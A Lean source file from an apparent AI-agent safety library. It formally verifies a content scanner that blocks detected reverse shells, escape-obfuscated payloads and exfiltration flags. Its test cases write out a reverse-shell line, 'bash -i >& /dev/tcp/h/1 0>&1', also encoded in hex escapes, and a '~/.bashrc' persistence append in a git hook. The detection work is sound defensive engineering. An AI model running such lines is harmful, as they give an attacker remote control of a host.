import SovAgent.Foundation.Text
import SovAgent.Safety.CodeExecDecision
import SovAgent.Safety.Scan

/-! # Scanning the content of a file

The commands found in a content and the injections found in it add up to one
decision. It says exactly what was found, and escapes hide nothing from it.
-/

namespace SovAgent.Safety

structure ScanContentOptions where
  context : Option ExecContext := none
  mimeType : Option Units := none

structure ContentScanResult where
  safe : Bool
  score : ℚ
  flags : List String
  action : CodeExecAction
  warnings : List String
  category : Option CodeExecCategory
  reason : Option String

/-- `/:(?:curl_exfil|wget_exfil)$/` -/
def isNetworkExfil (flag : String) : Bool :=
  endsWith flag ":curl_exfil" || endsWith flag ":wget_exfil"

def scannedPart (text : Units) : Units :=
  if hardMaxInput < text.length then text.take hardMaxInput else text

def scanContent (regexScan : Units → LayerResult) (text : Units) (opts : ScanContentOptions) :
    ContentScanResult :=
  let truncated := scannedPart text
  let injection := regexScan truncated
  let allFlags := firstEntries id [] (injection.flags.map fun flag => "content:" ++ flag)
  let codeDecision := decideCodeExec (detectCodeExec truncated) opts.context opts.mimeType
  let doc := isDocPath (opts.context.bind ExecContext.path) opts.mimeType
  let injectionFlags := allFlags.filter fun flag => !(doc && isNetworkExfil flag)
  let downgradedWarnings := allFlags.filter fun flag => doc && isNetworkExfil flag
  let finalFlags := firstEntries id [] (injectionFlags ++ codeDecision.flags)
  let finalWarnings := firstEntries id [] (downgradedWarnings ++ codeDecision.warnings)
  let action : CodeExecAction :=
    if 0 < finalFlags.length then .block else if 0 < finalWarnings.length then .warn else .allow
  let baseScore := max (if 0 < injectionFlags.length then injection.score else 0) codeDecision.score
  { safe := finalFlags.length = 0
    score := if action = .warn ∧ baseScore = 0 then double 0.15 else baseScore
    flags := finalFlags
    action
    warnings := finalWarnings
    category := codeDecision.category
    reason := codeDecision.reason }

/-! ## What a scan reports -/

/-- A command that is found in the text and gets this verdict, by its flag. -/
def ReportedCode (text : Units) (opts : ScanContentOptions) (action : CodeExecAction)
    (flag : String) : Prop :=
  ∃ entry, Found text entry ∧ tierVerdict opts.context opts.mimeType entry.tier = action ∧
    flag = "code:" ++ entry.key

/-- An injection that the other layer reports, by its flag. -/
def ReportedInjection (regexScan : Units → LayerResult) (text : Units) (flag : String) : Prop :=
  ∃ name ∈ (regexScan text).flags, flag = "content:" ++ name

def Illustrative (opts : ScanContentOptions) (flag : String) : Prop :=
  isDocPath (opts.context.bind ExecContext.path) opts.mimeType = true ∧
    isNetworkExfil flag = true

theorem reportedCode_iff {text : Units} {opts : ScanContentOptions} {action : CodeExecAction}
    {flag : String} :
    ReportedCode text opts action flag ↔
      ∃ one ∈ detectCodeExec text,
        tierVerdict opts.context opts.mimeType one.tier = action ∧ flag = one.flag := by
  constructor
  · rintro ⟨entry, found, judged, rfl⟩
    rcases exists_mem_detect found with ⟨one, member, of⟩
    refine ⟨one, member, of.tier.symm ▸ judged, ?_⟩
    rw [CodeExecMatch.flag, of.key]
  · rintro ⟨one, member, judged, rfl⟩
    rcases found_of_mem_detect member with ⟨entry, found, of⟩
    refine ⟨entry, found, of.tier ▸ judged, ?_⟩
    rw [CodeExecMatch.flag, of.key]

theorem mem_injections (regexScan : Units → LayerResult) (text : Units) (flag : String) :
    flag ∈ (regexScan text).flags.map (fun name => "content:" ++ name) ↔
      ReportedInjection regexScan text flag := by
  rw [List.mem_map]
  exact exists_congr fun name => and_congr_right fun _ => eq_comm

theorem mem_flags_scanContent (regexScan : Units → LayerResult) (text : Units)
    (opts : ScanContentOptions) (flag : String) :
    flag ∈ (scanContent regexScan text opts).flags ↔
      (ReportedInjection regexScan (scannedPart text) flag ∧ ¬ Illustrative opts flag) ∨
        ReportedCode (scannedPart text) opts .block flag := by
  rw [scanContent]
  simp only [mem_firstEntries_id, List.mem_append, List.not_mem_nil, false_or, List.mem_filter,
    mem_injections, mem_flags_decideCodeExec, reportedCode_iff, Illustrative, Bool.not_eq_true',
    Bool.and_eq_false_iff, not_and_or, Bool.not_eq_true]

theorem mem_warnings_scanContent (regexScan : Units → LayerResult) (text : Units)
    (opts : ScanContentOptions) (flag : String) :
    flag ∈ (scanContent regexScan text opts).warnings ↔
      (ReportedInjection regexScan (scannedPart text) flag ∧ Illustrative opts flag) ∨
        ReportedCode (scannedPart text) opts .warn flag := by
  rw [scanContent]
  simp only [mem_firstEntries_id, List.mem_append, List.not_mem_nil, false_or, List.mem_filter,
    mem_injections, mem_warnings_decideCodeExec, reportedCode_iff, Illustrative,
    Bool.and_eq_true]

theorem scanContent_action (regexScan : Units → LayerResult) (text : Units)
    (opts : ScanContentOptions) :
    let result := scanContent regexScan text opts
    (result.action = .block ↔ result.flags ≠ []) ∧
      (result.action = .warn ↔ result.flags = [] ∧ result.warnings ≠ []) ∧
        (result.safe = true ↔ result.action ≠ .block) := by
  rw [scanContent]
  simp only [List.length_pos_iff, decide_eq_true_eq, List.length_eq_zero_iff]
  split_ifs with flagged warned <;> simp_all

/-- Exactly what was found is reported, each thing once, and decides the action. -/
theorem scanContent_reports (regexScan : Units → LayerResult) (text : Units)
    (opts : ScanContentOptions) :
    let result := scanContent regexScan text opts
    let part := scannedPart text
    (∀ flag, flag ∈ result.flags ↔
      (ReportedInjection regexScan part flag ∧ ¬ Illustrative opts flag) ∨
        ReportedCode part opts .block flag) ∧
    (∀ flag, flag ∈ result.warnings ↔
      (ReportedInjection regexScan part flag ∧ Illustrative opts flag) ∨
        ReportedCode part opts .warn flag) ∧
    result.flags.Nodup ∧ result.warnings.Nodup ∧
    (result.action = .block ↔ result.flags ≠ []) ∧
    (result.action = .warn ↔ result.flags = [] ∧ result.warnings ≠ []) ∧
    (result.safe = true ↔ result.action ≠ .block) := by
  exact ⟨mem_flags_scanContent regexScan text opts, mem_warnings_scanContent regexScan text opts,
    nodup_firstEntries_id _, nodup_firstEntries_id _, scanContent_action regexScan text opts⟩

/-! ## Weapons -/

theorem le_score_scanContent (regexScan : Units → LayerResult) (text : Units)
    (opts : ScanContentOptions) :
    (decideCodeExec (detectCodeExec (scannedPart text)) opts.context opts.mimeType).score ≤
      (scanContent regexScan text opts).score := by
  have least (action : CodeExecAction) (injection code : ℚ) :
      code ≤ if action = .warn ∧ max injection code = 0 then double 0.15
        else max injection code := by
    split
    · rename_i warned
      have tenths : 0 ≤ double 0.15 := double_nonneg (by norm_num)
      exact (le_max_right _ _).trans (warned.2.le.trans tenths)
    · exact le_max_right _ _
  exact least _ _ _

theorem scanContent_weapon {text : Units} {entry : CodeExecPattern}
    (found : Found (scannedPart text) entry) (weapon : entry.tier = .weapon)
    (regexScan : Units → LayerResult) (opts : ScanContentOptions) :
    let result := scanContent regexScan text opts
    result.action = .block ∧ result.safe = false ∧ "code:" ++ entry.key ∈ result.flags ∧
      double 0.9 ≤ result.score := by
  intro result
  have judged : tierVerdict opts.context opts.mimeType entry.tier = .block := by
    rw [weapon]
    rfl
  have flagged : "code:" ++ entry.key ∈ result.flags :=
    (mem_flags_scanContent regexScan text opts _).mpr (Or.inr ⟨entry, found, judged, rfl⟩)
  rcases scanContent_action regexScan text opts with ⟨blocked, _, safe⟩
  have action : result.action = .block := blocked.mpr (List.ne_nil_of_mem flagged)
  refine ⟨action, eq_false_of_ne_true fun passes => safe.mp passes action, flagged, ?_⟩
  rcases exists_mem_detect found with ⟨one, member, of⟩
  have code : (decideCodeExec (detectCodeExec (scannedPart text)) opts.context
      opts.mimeType).action = .block := by
    have grave := (decideCodeExec_gravest (detectCodeExec (scannedPart text)) opts.context
      opts.mimeType).2 one member
    rw [of.tier, judged] at grave
    cases decision : (decideCodeExec (detectCodeExec (scannedPart text)) opts.context
        opts.mimeType).action with
    | block => rfl
    | warn => rw [decision] at grave; exact absurd grave (by decide)
    | allow => rw [decision] at grave; exact absurd grave (by decide)
  have score : (decideCodeExec (detectCodeExec (scannedPart text)) opts.context
      opts.mimeType).score = double 0.9 := by
    have armed : ((detectCodeExec (scannedPart text)).any fun one =>
        decide (one.tier = .weapon)) = true :=
      List.any_eq_true.mpr ⟨one, member, decide_eq_true (of.tier.trans weapon)⟩
    rw [decideCodeExec_score, code, armed]
    rfl
  rw [← score]
  exact le_score_scanContent regexScan text opts

/-! ## Escapes -/

/-- The escapes that are decoded: `\xHH` and `\uHHHH`. -/
inductive Spelling : UInt16 → Nat → Prop where
  | hex : Spelling 0x78 2
  | unicode : Spelling 0x75 4

/-- One escape, with digits in either case. -/
structure IsEscape (letter : UInt16) (count : Nat) (escape : Units) : Prop where
  width : escape.length = count + 2
  read : Pattern.begins (escapeClasses letter count) escape = true

theorem escapeClasses_foreign {letter : UInt16} {count : Nat} (spelling : Spelling letter count) :
    ∀ accepts ∈ (· == letter) :: List.replicate count RegExp.isHexDigit, ∀ unit : UInt16,
      (unit == 0x5C) = true → accepts unit = false := by
  intro accepts listed unit backslash
  rw [beq_iff_eq.mp backslash]
  rcases List.mem_cons.mp listed with rfl | digit
  · cases spelling with
    | hex => decide
    | unicode => decide
  · have same : accepts = RegExp.isHexDigit := List.eq_of_mem_replicate digit
    rw [same]
    decide

theorem decodeEscapes_run {letter : UInt16} {count : Nat} (spelling : Spelling letter count)
    {run : List Units} (escapes : ∀ escape ∈ run, IsEscape letter count escape)
    (nonempty : run ≠ []) (before after : Units) :
    decodeEscapes letter count (before ++ (run.flatten ++ after)) =
      decodeEscapes letter count before ++
        (run.flatMap escapeValue ++ decodeEscapes letter count after) := by
  apply Pattern.replace_flatten (escapeClasses_foreign spelling) _ nonempty
  intro escape listed
  have fixed := escapes escape listed
  refine ⟨?_, fixed.read⟩
  rw [fixed.width, List.length_cons, List.length_replicate]

theorem decodeEscapes_mem_variants {letter : UInt16} {count : Nat}
    (spelling : Spelling letter count) (text : Units) :
    decodeEscapes letter count text ∈ codeExecVariants text := by
  rw [codeExecVariants, mem_firstEntries_id, List.mem_singleton, or_iff_not_imp_left]
  intro changed
  apply List.mem_append_left
  refine List.mem_filter.mpr ⟨?_, decide_eq_true changed⟩
  cases spelling with
  | hex => exact List.mem_cons_self
  | unicode => exact List.mem_cons_of_mem _ List.mem_cons_self

/-- A weapon whose text is spelled in escapes is refused in every context. -/
theorem scanContent_escaped {letter : UInt16} {count : Nat} (spelling : Spelling letter count)
    {run : List Units} (escapes : ∀ escape ∈ run, IsEscape letter count escape)
    (nonempty : run ≠ []) {before after : Units}
    (fits : (before ++ (run.flatten ++ after)).length ≤ hardMaxInput) {entry : CodeExecPattern}
    (listed : entry ∈ codeExecPatterns) (weapon : entry.tier = .weapon)
    (reads : entry.pattern.Reads (decodeEscapes letter count before).getLast?
      (run.flatMap escapeValue) (decodeEscapes letter count after))
    (regexScan : Units → LayerResult) (opts : ScanContentOptions) :
    let result := scanContent regexScan (before ++ (run.flatten ++ after)) opts
    result.action = .block ∧ result.safe = false ∧ "code:" ++ entry.key ∈ result.flags ∧
      double 0.9 ≤ result.score := by
  have whole : scannedPart (before ++ (run.flatten ++ after)) = before ++ (run.flatten ++ after) :=
    if_neg (Nat.not_lt_of_le fits)
  have found : Found (scannedPart (before ++ (run.flatten ++ after))) entry := by
    rw [whole]
    refine ⟨listed, _, decodeEscapes_mem_variants spelling _, ?_⟩
    rw [decodeEscapes_run spelling escapes nonempty]
    exact Pattern.test_iff.mpr ⟨_, _, _, rfl, reads⟩
  exact scanContent_weapon found weapon regexScan opts

/-- `/dev/tcp/h/1`, with every character escaped. -/
def escapedDevTcp : List Units :=
  ["\\x2f", "\\x64", "\\x65", "\\x76", "\\x2F", "\\x74", "\\x63", "\\x70", "\\x2f", "\\x68",
    "\\x2f", "\\x31"].map units

theorem scanContent_escaped_devTcp :
    let result := scanContent (fun _ => ⟨"regex", 0, [], .matches []⟩)
      (units "bash -i >& " ++ (escapedDevTcp.flatten ++ units " 0>&1"))
      { context := some { path := some (units "README.md"), executesOnHost := some false } }
    result.action = .block ∧ result.safe = false ∧
      "code:reverse_shell:dev_tcp" ∈ result.flags ∧ double 0.9 ≤ result.score :=
  have escapes : ∀ escape ∈ escapedDevTcp, escape.length = 4 ∧
      Pattern.begins (escapeClasses 0x78 2) escape = true := by decide
  scanContent_escaped .hex
    (fun escape listed => ⟨(escapes escape listed).1, (escapes escape listed).2⟩)
    (by decide) (by decide) (List.getElem_mem (by decide : 0 < codeExecPatterns.length)) rfl
    (Pattern.mem_ends.mp (by decide +kernel)) _ _

/-! ## More matches and more risk -/

/-- Neither a match more nor a riskier place lowers a decision. -/
theorem decideCodeExec_mono {fewer more : List CodeExecMatch} (kept : ∀ one ∈ fewer, one ∈ more)
    {context riskier : Option ExecContext} {mimeType mimeTypeToo : Option Units}
    (risk : hostRisk context = true → hostRisk riskier = true)
    (document : isDocPath (riskier.bind ExecContext.path) mimeTypeToo = true →
      isDocPath (context.bind ExecContext.path) mimeType = true) :
    actionRank (decideCodeExec fewer context mimeType).action ≤
        actionRank (decideCodeExec more riskier mimeTypeToo).action ∧
      (decideCodeExec fewer context mimeType).score ≤
        (decideCodeExec more riskier mimeTypeToo).score := by
  have graver : actionRank (decideCodeExec fewer context mimeType).action ≤
      actionRank (decideCodeExec more riskier mimeTypeToo).action := by
    rcases (decideCodeExec_gravest fewer context mimeType).1 with nothing | ⟨one, seen, source⟩
    · rw [nothing]
      exact Nat.zero_le _
    · rw [source]
      calc actionRank (tierVerdict context mimeType one.tier)
          ≤ actionRank (tierVerdict riskier mimeTypeToo one.tier) :=
            actionRank_verdict_mono risk document _
        _ ≤ actionRank (decideCodeExec more riskier mimeTypeToo).action :=
            (decideCodeExec_gravest more riskier mimeTypeToo).2 one (kept one seen)
  refine ⟨graver, ?_⟩
  rw [decideCodeExec_score, decideCodeExec_score]
  apply decisionScore_mono graver
  intro armed
  rcases List.any_eq_true.mp armed with ⟨one, seen, weapon⟩
  exact List.any_eq_true.mpr ⟨one, kept one seen, weapon⟩

/-- The hook of a repository of documents, where a weapon is found besides. -/
theorem decideCodeExec_mono_hook :
    let startup : CodeExecMatch :=
      ⟨.persistence, .contextual, "shell_rc_append", units ">> ~/.bashrc"⟩
    let weapon : CodeExecMatch := ⟨.reverseShell, .weapon, "dev_tcp", units "/dev/tcp/h/1"⟩
    let context : ExecContext := { path := some (units "docs/Makefile") }
    let riskier : ExecContext := { path := some (units "docs/.git/hooks/post-merge") }
    (hostRisk (some context) = true ∧ isDocPath riskier.path none = true) ∧
      actionRank (decideCodeExec [startup] (some context) none).action ≤
        actionRank (decideCodeExec [weapon, startup] (some riskier) none).action ∧
      (decideCodeExec [startup] (some context) none).score ≤
        (decideCodeExec [weapon, startup] (some riskier) none).score := by
  intro startup weapon context riskier
  have premises : hostRisk (some context) = true ∧ isDocPath riskier.path none = true := by decide
  refine ⟨premises, decideCodeExec_mono ?_ ?_ ?_⟩
  · exact fun one seen => List.mem_cons_of_mem weapon seen
  · intro _
    decide
  · intro _
    decide

end SovAgent.Safety
